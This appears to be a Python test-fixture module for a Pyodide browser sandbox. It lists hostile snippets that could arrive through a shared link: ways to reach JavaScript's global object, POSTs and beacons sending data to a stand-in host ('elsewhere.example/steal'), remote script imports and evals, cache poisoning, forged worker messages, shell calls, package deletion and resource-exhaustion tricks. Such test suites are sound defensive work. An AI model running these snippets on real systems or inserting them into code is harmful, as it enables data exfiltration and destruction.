# ruff: noqa: E501  a table of programs
"""Texts that somebody could put behind a shared link: what a kernel's EXAMPLE begins with, each meant to do harm.

`TEXTS` names each. Whatever such a text does, it stays in its worker, and the page gets a verdict with a message.
"""

#: How a text could get hold of JavaScript's global object, or of any JavaScript object.
REACHES = {
    "import": "import js",
    "from": "from js import self as js",
    "importlib": "import importlib; js = importlib.import_module('js')",
    "pyodide": "from pyodide.code import run_js; js = run_js('self')",
    "http": "import pyodide.http; js = pyodide.http",
    "pyodide_js": "import pyodide_js; js = pyodide_js",
    "core": "import _pyodide_core; js = _pyodide_core",
    "modules": "import sys; js = sys.modules['js']",
    "finder": "import gc; js = next(o for o in gc.get_objects() if type(o).__name__ == 'JsFinder').jsproxies['js']",
    "proxies": "import gc; js = next(o for o in gc.get_objects() if 'JsProxy' in type(o).__name__ and hasattr(o, 'Object'))",
    "constructor": "import gc; js = next(o for o in gc.get_objects() if type(o).__name__ == 'JsProxy').constructor.constructor('return self')()",
}  # fmt: skip
#: What it could want to do with it.
WISHES = {
    "post to another host": "js.fetch('https://elsewhere.example/steal', method='POST', body='x')",
    "ask this host": "js.fetch('/')",
    "ask the old way": "r = js.XMLHttpRequest.new(); r.open('POST', 'https://elsewhere.example/', False); r.send('x')",
    "open a socket": "js.WebSocket.new('wss://elsewhere.example/')",
    "listen to events": "js.EventSource.new('https://elsewhere.example/')",
    "overwrite the cache": "js.caches.open('academy-playground').then(lambda c: c.put('/assets/playground/runtime/x', js.Response.new('x')))",
    "empty the cache": "js.caches.delete('academy-playground')",
    "open a database": "js.indexedDB.open('academy')",
    "start a worker": "js.Worker.new('data:text/javascript,fetch(1)')",
    "speak to other tabs": "js.BroadcastChannel.new('academy').postMessage('x')",
    "import a script": "js.importScripts('https://elsewhere.example/x.js')",
    "evaluate": "js.eval(\"import('https://elsewhere.example/x.js')\")",
    "make a function": "js.Function.new(\"return import('https://elsewhere.example/x.js')\")()",
    "evaluate later": "js.setTimeout(\"import('https://elsewhere.example/x.js')\", 0)",
    "forge an answer": "[js.postMessage({'id': n, 'answer': '{}'}) for n in range(99)]",
    "hear questions": "js.addEventListener('message', print)",
    "close the worker": "js.close()",
    "register a service worker": "js.navigator.serviceWorker.register('/x.js')",
    "store": "js.navigator.storage.getDirectory()",
    "send a beacon": "js.navigator.sendBeacon('https://elsewhere.example/', 'x')",
}  # fmt: skip
_ALL = "finder", "proxies", "constructor"
THROUGH_JAVASCRIPT = {
    **{f"{reach}: {wish}": f"{REACHES[reach]}; {code}" for reach in _ALL for wish, code in WISHES.items()},
    **{f"{reach}: {wish}": f"{code}; {WISHES[wish]}" for reach, code in REACHES.items() if reach not in _ALL
       for wish in ("post to another host", "overwrite the cache")},
}  # fmt: skip
#: What Python itself offers.
IN_PYTHON = {
    "sys.exit": "import sys; sys.exit(0)",
    "exit with a message": "import sys; sys.exit('all is well')",
    "raise SystemExit": "raise SystemExit",
    "quit": "quit()",
    "os._exit": "import os; os._exit(0)",
    "abort": "import os; os.abort()",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "GeneratorExit": "raise GeneratorExit",
    "BaseException": "raise BaseException('x')",
    "MemoryError": "raise MemoryError",
    "an exception whose text fails": "raise type('E', (Exception,), {'__str__': lambda self: 1 / 0})()",
    "an exception without a name": "raise type('', (Exception,), {})()",
    "markup in an exception": "raise ValueError('<img src=x onerror=fetch(1)>')",
    "markup printed": "print('<script>fetch(1)</script>')",
    "much memory": "x = [bytearray(2**28) for _ in range(64)]",
    "a huge tensor": "x = torch.zeros(2**40)",
    "recursion": "f = lambda: f(); f()",
    "a deep stack": "import sys; sys.setrecursionlimit(10**9); f = lambda: f(); f()",
    "a deep expression": "eval('(' * 10**5 + ')' * 10**5)",
    "much printed": "print('x' * 10**7)",
    "a signal": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "a system command": "import os; os.system('ls')",
    "a process": "import subprocess; subprocess.run(['ls'])",
    "a fork": "import os; os.fork()",
    "a thread": "import threading; threading.Thread(target=print).start()",
    "urllib": "import urllib.request; urllib.request.urlopen('https://elsewhere.example/')",
    "http": "import http.client; http.client.HTTPSConnection('elsewhere.example').request('GET', '/')",
    "a socket": "import socket; socket.create_connection(('elsewhere.example', 443), timeout=1)",
    "a browser": "import webbrowser; webbrowser.open('https://elsewhere.example/')",
    "ctypes": "import ctypes; ctypes.string_at(0)",
    "bad bytecode": "exec((lambda: 0).__code__.replace(co_code=b'\\xff' * 8))",
    "a lesson overwritten": "open(__file__, 'w').write('')",
    "the package deleted": "import shutil, academy; shutil.rmtree(list(academy.__path__)[0])",
    "no builtins": "__builtins__.clear() if isinstance(__builtins__, dict) else vars(__builtins__).clear()",
    "no modules": "import sys; sys.modules.clear()",
    "print replaced": "import builtins; builtins.print = None; builtins.open = None",
    "json replaced": "import json; json.dumps = lambda *a, **k: '{}'",
    "a hook": "import sys; sys.settrace(lambda *a: 1 / 0)",
    "an audit hook": "import sys; sys.addaudithook(lambda *a: 1 / 0)",
    "stdout closed": "import sys; sys.stdout.close()",
    "at the end": "import atexit; atexit.register(lambda: 1 / 0)",
    "warnings as errors": "import warnings; warnings.simplefilter('error')",
    "NUL": "eval(chr(0))",
}  # fmt: skip
TEXTS = {**THROUGH_JAVASCRIPT, **IN_PYTHON}
